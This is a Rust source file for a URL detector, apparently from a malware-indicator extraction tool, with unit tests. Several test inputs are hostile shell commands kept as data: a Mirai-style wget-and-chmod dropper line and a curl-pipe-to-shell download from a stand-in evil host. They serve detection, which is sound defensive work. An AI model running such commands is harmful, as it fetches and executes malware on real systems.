//! URL detection.
//!
//! Only real network schemes are recognised: `http https ftp ftps tftp irc
//! ircs ws wss` and the mining-pool schemes `stratum+tcp stratum+ssl
//! stratum+tls stratum` (case-insensitive; defanged forms such as `hxxp` are
//! not schemes). The host must be a concrete address: a dotted quad, a bracketed
//! IPv6 address, `localhost`, or a host name with a known public suffix. URL
//! templates with a format-string host (`http://%s/bins/%s`) are therefore not
//! URLs; a concrete host with a templated path (`http://1.2.3.4/bins/x.%s`) is.
//! A port, when present, must be a decimal number up to 65535.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::str::FromStr;

use super::domain::valid_host;

const SCHEMES: &[&str] = &[
    "http",
    "https",
    "ftp",
    "ftps",
    "tftp",
    "irc",
    "ircs",
    "ws",
    "wss",
    "stratum+tcp",
    "stratum+ssl",
    "stratum+tls",
    "stratum",
];

/// What the host of a URL is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Host<'s> {
    Domain(&'s str),
    Ipv4,
    Ipv6,
    Localhost,
}

/// One URL found in a string.
#[derive(Debug, Clone, Copy)]
pub(crate) struct FoundUrl<'s> {
    pub value: &'s str,
    pub scheme: &'s str,
    pub host: &'s str,
    /// Index of the host within the scanned string.
    pub host_at: usize,
    pub host_kind: Host<'s>,
}

#[inline]
fn url_char(b: u8) -> bool {
    b.is_ascii_graphic()
        && !matches!(
            b,
            b'"' | b'\'' | b'`' | b'<' | b'>' | b'|' | b';' | b'{' | b'}' | b'\\' | b'^'
        )
}

/// Calls `emit(index, url)` for every URL in `s`.
pub(crate) fn scan_urls<'s>(s: &'s str, mut emit: impl FnMut(usize, FoundUrl<'s>)) {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(rel) = s.get(from..).and_then(|t| t.find("://")) {
        let sep = from + rel;
        from = sep + 3;
        // RFC 3986 scheme characters; "stratum+tcp" is one scheme.
        let mut start = sep;
        while start > 0 && (b[start - 1].is_ascii_alphanumeric() || b"+-.".contains(&b[start - 1]))
        {
            start -= 1;
        }
        let known = |st: usize| {
            s.get(st..sep)
                .is_some_and(|k| SCHEMES.iter().any(|x| x.eq_ignore_ascii_case(k)))
        };
        if !known(start) {
            // "git+https://": fall back to the scheme after the last '+', '-'
            // or '.', which must not be glued to a word.
            let Some(p) = b[start..sep].iter().rposition(|c| b"+-.".contains(c)) else {
                continue;
            };
            start += p + 1;
            if !known(start) {
                continue;
            }
        }
        let body_start = sep + 3;
        let mut end = body_start;
        while end < b.len() && url_char(b[end]) {
            end += 1;
        }
        end = trim_end(b, body_start, end);
        from = end.max(from);
        if let Some(found) = parse(s, start, sep, body_start, end) {
            emit(start, found);
        }
    }
}

/// Drops trailing punctuation that belongs to the surrounding text. A closing
/// bracket stays when the URL opened one (`.../Foo_(bar)`). Bracket counts are
/// taken once and updated while trimming, so a long tail of `)` stays linear.
fn trim_end(b: &[u8], start: usize, mut end: usize) -> usize {
    let Some(body) = b.get(start..end) else {
        return end;
    };
    let count = |c: u8| body.iter().filter(|&&x| x == c).count();
    let (open_paren, mut close_paren) = (count(b'('), count(b')'));
    let (open_bracket, mut close_bracket) = (count(b'['), count(b']'));
    while end > start {
        let Some(&last) = b.get(end - 1) else {
            break;
        };
        let drop = match last {
            b'.' | b',' | b':' | b'!' | b'?' => true,
            b')' => close_paren > open_paren,
            b']' => close_bracket > open_bracket,
            _ => false,
        };
        if !drop {
            break;
        }
        match last {
            b')' => close_paren -= 1,
            b']' => close_bracket -= 1,
            _ => {}
        }
        end -= 1;
    }
    end
}

fn parse(s: &str, start: usize, sep: usize, body_start: usize, end: usize) -> Option<FoundUrl<'_>> {
    let body = s.get(body_start..end)?;
    let auth_len = body.find(['/', '?', '#']).unwrap_or(body.len());
    let authority = body.get(..auth_len)?;
    let host_off = authority.rfind('@').map_or(0, |p| p + 1);
    let hostport = authority.get(host_off..)?;
    let (host, port) = if let Some(rest) = hostport.strip_prefix('[') {
        let close = rest.find(']')?;
        let inner = rest.get(..close)?;
        Ipv6Addr::from_str(inner).ok()?;
        let after = rest.get(close + 1..)?;
        let port = match after {
            "" => None,
            p => Some(p.strip_prefix(':')?),
        };
        (hostport.get(..close + 2)?, port)
    } else {
        match hostport.rsplit_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (hostport, None),
        }
    };
    if let Some(p) = port {
        if p.is_empty() || p.len() > 5 || !p.bytes().all(|c| c.is_ascii_digit()) {
            return None;
        }
        if p.parse::<u32>().ok()? > 65535 {
            return None;
        }
    }
    let kind = if host.starts_with('[') {
        Host::Ipv6
    } else if is_quad(host) {
        Host::Ipv4
    } else if host.eq_ignore_ascii_case("localhost") {
        Host::Localhost
    } else if valid_host(host.as_bytes()) {
        Host::Domain(host)
    } else {
        return None;
    };
    Some(FoundUrl {
        value: s.get(start..end)?,
        scheme: s.get(start..sep)?,
        host,
        host_at: body_start + host_off,
        host_kind: kind,
    })
}

/// Strict dotted quad: four decimal octets without leading zeros.
fn is_quad(h: &str) -> bool {
    let parts: Vec<&str> = h.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| {
            !p.is_empty()
                && p.len() <= 3
                && p.bytes().all(|c| c.is_ascii_digit())
                && !(p.len() > 1 && p.starts_with('0'))
        })
        && Ipv4Addr::from_str(h).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn urls(s: &str) -> Vec<(String, String)> {
        let mut out = Vec::new();
        scan_urls(s, |_, u| {
            out.push((u.value.to_string(), u.host.to_string()))
        });
        out
    }

    fn pair(a: &str, b: &str) -> (String, String) {
        (a.to_string(), b.to_string())
    }

    #[test]
    fn positives() {
        assert_eq!(
            urls("cd /tmp; wget http://185.10.68.20/bins/mirai.x86; chmod 777 mirai.x86"),
            [pair("http://185.10.68.20/bins/mirai.x86", "185.10.68.20")]
        );
        assert_eq!(
            urls("curl -s https://cdn.evil-host.com:8443/x.sh?a=1&b=2|sh"),
            [pair(
                "https://cdn.evil-host.com:8443/x.sh?a=1&b=2",
                "cdn.evil-host.com"
            )]
        );
        assert_eq!(
            urls("(see http://example.org/a)."),
            [pair("http://example.org/a", "example.org")]
        );
        assert_eq!(
            urls("tftp://10.0.0.5/payload"),
            [pair("tftp://10.0.0.5/payload", "10.0.0.5")]
        );
        assert_eq!(
            urls("irc://irc.undernet.org:6667"),
            [pair("irc://irc.undernet.org:6667", "irc.undernet.org")]
        );
        assert_eq!(
            urls("wss://[2001:db8::1]:443/ws"),
            [pair("wss://[2001:db8::1]:443/ws", "[2001:db8::1]")]
        );
        assert_eq!(
            urls("ftp://anonymous:pw@files.example.net/pub"),
            [pair(
                "ftp://anonymous:pw@files.example.net/pub",
                "files.example.net"
            )]
        );
        assert_eq!(
            urls("HTTP://EXAMPLE.COM/"),
            [pair("HTTP://EXAMPLE.COM/", "EXAMPLE.COM")]
        );
        assert_eq!(
            urls("http://localhost:8080/"),
            [pair("http://localhost:8080/", "localhost")]
        );
        assert_eq!(
            urls("http://1.2.3.4/bins/mirai.%s"),
            [pair("http://1.2.3.4/bins/mirai.%s", "1.2.3.4")]
        );
        assert_eq!(
            urls("\"http://a.example.com\",\"http://b.example.com\"").len(),
            2
        );
    }

    #[test]
    fn long_bracket_tail_is_linear() {
        let s = format!("http://example.com/{}", ")".repeat(2_000_000));
        let t = std::time::Instant::now();
        assert_eq!(urls(&s), [pair("http://example.com/", "example.com")]);
        assert!(t.elapsed().as_secs() < 5, "took {:?}", t.elapsed());
    }

    #[test]
    fn negatives() {
        for s in [
            "http://%s/bins/%s",
            "http://%s:%d/x",
            "hxxp://evil.com/x",
            "file:///etc/passwd",
            "xhttp://evil.com",
            "http://",
            "http://nodot/x",
            "http://example.notatld/",
            "http://evil.com:99999/",
            "http://evil.com:port/",
            "http://[zz::1]/",
            "http://999.1.1.1/",
            "mailto://x",
            "xhttp://evil.com",
            "foo+bar://evil.com",
        ] {
            assert!(urls(s).is_empty(), "{s:?} gave {:?}", urls(s));
        }
    }
}
